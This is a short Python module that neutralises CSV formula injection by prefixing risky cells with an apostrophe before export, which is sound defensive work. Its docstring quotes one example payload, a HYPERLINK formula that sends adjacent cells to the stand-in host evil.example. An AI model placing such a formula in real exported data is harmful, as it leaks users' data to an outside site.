"""CSV cells that a spreadsheet cannot run (CSV/formula injection, OWASP).

Excel, WPS and LibreOffice treat a cell starting with = + - @ (or a tab or carriage return
before one) as a formula: `=HYPERLINK("http://evil.example/?"&B3,"详情")` in a user name would
send the neighbouring cells to another site when an auditor clicks. Every exporter writes its
rows through `safe_row`, which prefixes such a cell with an apostrophe (shown as text, not run).
Plain numbers, negative ones included, are left as they are.
"""
from __future__ import annotations

import re
from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def safe_cell(value: object) -> object:
    if not isinstance(value, str) or not value.lstrip(" ").startswith(_FORMULA_START):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]
